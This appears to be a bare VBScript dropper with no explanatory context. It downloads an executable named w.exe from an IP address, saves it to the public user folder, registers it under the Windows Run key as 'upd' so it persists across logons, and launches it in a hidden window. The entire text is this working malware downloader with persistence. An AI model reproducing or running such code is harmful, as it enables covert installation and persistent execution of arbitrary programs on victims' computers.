Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://198.51.100.16/w.exe", False
x.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write x.responseBody
s.SaveToFile "C:\Users\Public\w.exe", 2
Set sh = CreateObject("WScript.Shell")
sh.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\upd", "C:\Users\Public\w.exe"
sh.Run "C:\Users\Public\w.exe", 0, False
